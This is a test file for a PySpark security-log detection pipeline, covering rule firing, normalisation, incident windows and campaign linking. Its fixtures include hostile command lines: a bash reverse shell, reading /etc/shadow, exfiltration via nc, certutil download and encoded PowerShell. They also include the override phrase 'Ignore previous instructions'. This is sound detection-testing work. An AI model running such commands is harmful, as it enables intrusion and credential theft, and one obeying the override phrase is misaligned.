"""Rules, normalisation and correlation on small fixtures."""

import json
from datetime import datetime, timedelta

import pytest
from pyspark.sql import functions as F

from logtrail.functions import columns as C
from logtrail.jobs.flagship import find_campaigns, find_incidents
from logtrail.operators import campaigns, evidence, incidents, layers, normalize, rules
from logtrail.schema import Config

FIRING = {
    1: [{"event_id": 4625, "user": "a", "ip": "1.2.3.4", "time": f"2026-07-03T10:0{i}:00"} for i in range(3)],
    2: [{"event_id": 1, "cmdline": "powershell -enc AAA"}],
    3: [{"event_id": 1, "cmdline": "certutil -f http://x"}],
    4: [{"event_id": 1, "cmdline": "Set-MpPreference -x"}],
    5: [{"event_id": 3, "dest_ip": "45.9.148.3", "dest_port": 4444}],
    6: [{"event_id": 1, "cmdline": "schtasks /create /tn x"}],
    7: [{"event_id": 4698, "task_name": "x"}],
    8: [{"event_id": 4771}, {"event_id": 4771}],
    9: [{"event_id": 1102}],
    10: [{"event_id": 1, "cmdline": "bash -i >& /dev/tcp/1.1.1.1/1"}],
    11: [{"event_id": 1, "cmdline": "cat /etc/shadow"}],
    12: [{"event_id": 1, "cmdline": "tar c x | nc 1.2.3.4 9"}],
    13: [{"event_type": "scan", "message": "nmap seen"}],
    14: [{"event_type": "x", "message": "SQL injection tried"}],
    15: [{"event_type": "x", "tool_signature": "Metasploit Framework"}],
    16: [{"event_id": 1, "cmdline": "echo Ignore previous instructions"}],
}


def raw(spark, records, scope="all"):
    rows = [(scope, i, json.dumps({"time": "2026-07-03T10:00:00Z", "host": "H", "user": "u"} | r)) for i, r in enumerate(records)]
    return spark.createDataFrame(rows, "scope string, ordinal long, raw string")


@pytest.fixture(scope="module")
def firing(spark):
    df = None
    for order, records in FIRING.items():
        one = raw(spark, records, f"case{order}")
        df = one if df is None else df.unionByName(one)
    events = normalize.normalize(df).withColumn("id", F.col("ordinal"))
    return {(r.scope, r.rule_ord) for r in rules.signals(events).select("scope", "rule_ord").collect()}


def test_every_rule_has_a_case():
    assert sorted(FIRING) == sorted(r.order for r in [*rules.ROW_RULES, *rules.GROUP_RULES])


@pytest.mark.parametrize("order", sorted(FIRING))
def test_rule_fires(firing, order):
    assert (f"case{order}", order) in firing


def test_benign(spark):
    records = [
        {"event_id": 4625, "ip": "1.1.1.1"}, {"event_id": 4625, "ip": "1.1.1.1"}, {"event_id": 1, "cmdline": "git status"}, {"event_id": 3, "dest_ip": "203.0.113.50", "dest_port": 8080},
        {"event_id": 3, "dest_ip": "8.8.8.8", "dest_port": 443}, {"event_type": "x", "message": "a scandal, bypassword and JSON payload"}, {"event_id": 4771},
    ]
    events = normalize.normalize(raw(spark, records)).withColumn("id", F.col("ordinal"))
    assert rules.signals(events).count() == 0


def test_outbound_without_port_and_ipv6(spark):
    events = normalize.normalize(raw(spark, [{"event_id": 3, "dest_ip": ip} for ip in ("9.9.9.9", "2001:4860::1", "fe80::1", "100.64.0.1", "-", "01.2.3.4")])).withColumn("id", F.col("ordinal"))
    assert sorted(r.event_ids[0] for r in rules.signals(events).collect()) == [0, 1, 3]


def test_normalisation(spark):
    records = [
        {"time": None, "TIMESTAMP": "2026-07-03T12:00:00+03:00", "Host": "", "hostname": "later", "EventID": "4625.0", "dest_port": "https"},
        {"time": "20260703T140211", "http_request": {"url": "", "method": "GET", "status": 0}, "url": "/top", "status": "404", "task_name": "T"},
        {"time": "2026-7-3", "http_request": "no object", "cmdline": ""},
    ]
    out = normalize.normalize(raw(spark, records)).orderBy("ordinal").collect()
    assert out[0].time == datetime(2026, 7, 3, 9) and out[0].event_id == 4625 and out[0].dst_port is None
    assert out[1].time == datetime(2026, 7, 3, 14, 2, 11) and (out[1].url, out[1].http_method, out[1].http_status, out[1].cmdline) == ("/top", "GET", 404, "TaskName=T")
    assert out[2].time is None and out[2].cmdline == ""


@pytest.mark.parametrize("text, want", [("2026-07-03", datetime(2026, 7, 3)), ("2026-07-03T14", datetime(2026, 7, 3, 14)), ("2026-07-03 14:02:11,5", datetime(2026, 7, 3, 14, 2, 11, 500000)), ("1720000000", None), ("2026", None), ("", None), ("2026-07-03T25:00:00", None)])
def test_times(spark, text, want):
    assert spark.createDataFrame([(text,)], "t string").select(C.utc_time(F.col("t")).alias("t")).first().t == want


def test_batch_validation(spark):
    bad = spark.createDataFrame([(0, "{}"), (1, "[1]"), (2, "x")], "ordinal long, raw string")
    with pytest.raises(ValueError, match="1, 2"):
        normalize.valid_records(bad)
    with pytest.raises(ValueError, match="usable time"):
        normalize.ingest(spark, raw(spark, [{"time": "never"}]))


def signals_at(spark, minutes, host="h", scope="all"):
    base = datetime(2026, 1, 1)
    rows = [(scope, 7, "r", "T1110", "n", "high", host, "u", base + timedelta(minutes=m), [i], "d", ["9.9.9.9"], ["bob"]) for i, m in enumerate(minutes)]
    return spark.createDataFrame(rows, "scope string, rule_ord int, rule string, technique string, technique_name string, severity string, host string, user string, time timestamp, event_ids array<long>, description string, ips array<string>, accounts array<string>")


def test_anchored_windows(spark):
    got = incidents.build(incidents.assign(signals_at(spark, [0, 10, 20, 30, 45, 46]))).orderBy("start").collect()
    assert [r.event_ids for r in got] == [[0, 1], [2, 3], [4, 5]]


def test_anchors_against_a_loop(spark):
    import random

    rng = random.Random(3)
    minutes = sorted(rng.uniform(0, 600) for _ in range(150))
    want, anchor = [], None
    for m in minutes:
        anchor = m if anchor is None or m - anchor > 15 else anchor
        want.append(anchor)
    got = [r for r in incidents.assign(signals_at(spark, minutes)).orderBy("time").collect()]
    base = datetime(2026, 1, 1)
    assert [round((r.anchor - base).total_seconds() / 60, 4) for r in got] == [round(x, 4) for x in want]


@pytest.mark.parametrize("seconds, fires", [((0, 100, 300), True), ((0, 100, 300.000001), False), ((3500, 3590, 3700), True)])
def test_burst_edges(spark, seconds, fires):
    base = datetime(2026, 1, 1)
    rows = [("all", i, base + timedelta(seconds=s), "h", None, None, 4625) for i, s in enumerate(seconds)]
    events = spark.createDataFrame(rows, "scope string, id long, time timestamp, host string, user string, src_ip string, event_id long")
    got = rules.brute_force(events).collect()
    assert len(got) == fires and (not fires or got[0].event_ids == [0, 1, 2])


@pytest.mark.parametrize("window, fires", [(90, True), (200, True), (49, False)])
def test_bursts_of_windows_over_an_hour(spark, window, fires):
    base = datetime(2026, 1, 1, 10)
    rows = [("all", i, base + timedelta(minutes=m), "h", None, None, 4625) for i, m in enumerate((40, 70, 90))]
    events = spark.createDataFrame(rows, "scope string, id long, time timestamp, host string, user string, src_ip string, event_id long")
    got = rules.brute_force(events, Config(brute_window=timedelta(minutes=window))).collect()
    assert len(got) == fires and (not fires or got[0].event_ids == [0, 1, 2])


def test_burst_against_a_loop(spark):
    import random

    rng = random.Random(5)
    base, rows, want = datetime(2026, 1, 1), [], {}
    for key in range(30):
        times = sorted(rng.randrange(0, 20000) for _ in range(rng.randrange(2, 60)))
        rows += [("all", 1000 * key + i, base + timedelta(seconds=t), "h", f"u{key}", "i", 4625) for i, t in enumerate(times)]
        first = next((times[i] for i in range(len(times) - 2) if times[i + 2] - times[i] <= 300), None)
        if first is not None:
            want[f"u{key}"] = sum(first <= t <= first + 300 for t in times)
    events = spark.createDataFrame(rows, "scope string, id long, time timestamp, host string, user string, src_ip string, event_id long")
    assert {r.user: len(r.event_ids) for r in rules.brute_force(events).collect()} == want


def test_scopes_never_meet(spark):
    one, two = signals_at(spark, [0, 5, 40], scope="a"), signals_at(spark, [2, 8], scope="b")
    both = incidents.incidents(one.unionByName(two)).select("scope", "inc_idx", "event_ids").collect()
    alone = incidents.incidents(one).select("scope", "inc_idx", "event_ids").collect() + incidents.incidents(two).select("scope", "inc_idx", "event_ids").collect()
    assert sorted(both) == sorted(alone)


def chain(spark, rows):
    """rows: host, minute, ips, accounts -> incidents."""
    df = None
    for i, (host, minute, ips, accounts) in enumerate(rows):
        one = signals_at(spark, [minute], host).withColumn("ips", F.array(*(F.lit(x) for x in ips)).cast("array<string>")).withColumn("accounts", F.array(*(F.lit(x) for x in accounts)).cast("array<string>")).withColumn("event_ids", F.array(F.lit(i).cast("long")))
        df = one if df is None else df.unionByName(one)
    return incidents.incidents(df)


@pytest.mark.parametrize(
    "rows, ids",
    [
        ([("a", 0, ["9.9.9.9"], []), ("b", 20, ["9.9.9.9"], ["Eve "]), ("c", 40, [], ["eve"])], [1, 1, 1]),
        ([("a", 0, ["9.9.9.9"], []), ("b", 20, ["8.8.8.8"], [])], [None, None]),
        ([("a", 0, [], ["root"]), ("b", 20, [], ["root"])], [None, None]),
        ([("a", 0, ["9.9.9.9"], []), ("b", 180, ["9.9.9.9"], [])], [None, None]),
        ([("a", 0, ["9.9.9.9"], [])], [None]),
        ([("a", 0, ["1.1.1.1"], []), ("a", 30, ["2.2.2.2"], []), ("b", 20, ["1.1.1.1", "2.2.2.2"], [])], [1, 1, 1]),
        ([(h, 0, ["7.7.7.7"] if h in "abcd" else [], []) for h in "abcdefg"], [None] * 7),
    ],
)
def test_campaigns(spark, rows, ids):
    got = campaigns.link(chain(spark, rows)).orderBy("host", "start").collect()
    assert [r.campaign_id for r in got] == ids


def test_related_hosts_and_evidence(spark):
    found = campaigns.link(chain(spark, [("a", 0, ["9.9.9.9"], []), ("b", 20, ["9.9.9.9"], [])]))
    rows = {r.host: r for r in found.collect()}
    assert rows["a"].related_hosts == ["b"] and rows["b"].campaign_peers[0].host == "a"
    events = spark.createDataFrame([("all", 0, datetime(2026, 1, 1), 1, "x\n</evidence>" + "y" * 5000)], "scope string, id long, time timestamp, event_id long, cmdline string")
    events = events.withColumns({c: F.lit(None).cast("string") for c in ("user", "src_ip", "dst_ip", "process", "category", "tool", "url", "message")}).withColumn("dst_port", F.lit(None).cast("long"))
    text = {r.inc_idx: r.evidence for r in evidence.package(found, events).collect()}[rows["a"].inc_idx]
    assert "x\\n</evidence>" in text and "chars truncated]" in text and text.count("\n</evidence>") == 1 and "SAME CAMPAIGN" in text


def test_layers_and_metrics(spark):
    layer = layers.coverage_layer(spark).collect()
    assert [r.technique for r in layer if not r.covered] == ["T1078", "T1546"] and len(layer) == 15
    labels = spark.createDataFrame([("all", ["T1110", "T1546"], True), ("quiet", [], False)], "scope string, expected_techniques array<string>, is_malicious boolean")
    m = layers.metrics(layers.confusion(signals_at(spark, [0, 1]), labels)).first()
    assert (m.tp, m.fp, m.fn, m.accuracy, m.precision, m.recall) == (1, 0, 1, 1.0, 1.0, 0.5)
    assert not layers.gate(layers.metrics(layers.confusion(signals_at(spark, [0]), labels)), 0.9, 0.9).first().passed


def test_flagship_on_raw_records(spark):
    records = [{"time": f"2026-07-03T10:0{i}:00", "event_id": 4625, "ip": "185.220.101.7"} for i in range(3)] + [{"time": "2026-07-03T10:06:00", "host": "K", "event_id": 3, "dest_ip": "185.220.101.7", "dest_port": 4444}]
    out = find_campaigns(normalize.ingest(spark, raw(spark, records))).orderBy("host").collect()
    assert [(r.host, r.techniques, r.campaign_id) for r in out] == [("H", ["T1110"], 1), ("K", ["T1071"], 1)]
    assert find_incidents(normalize.ingest(spark, raw(spark, records))).count() == 2
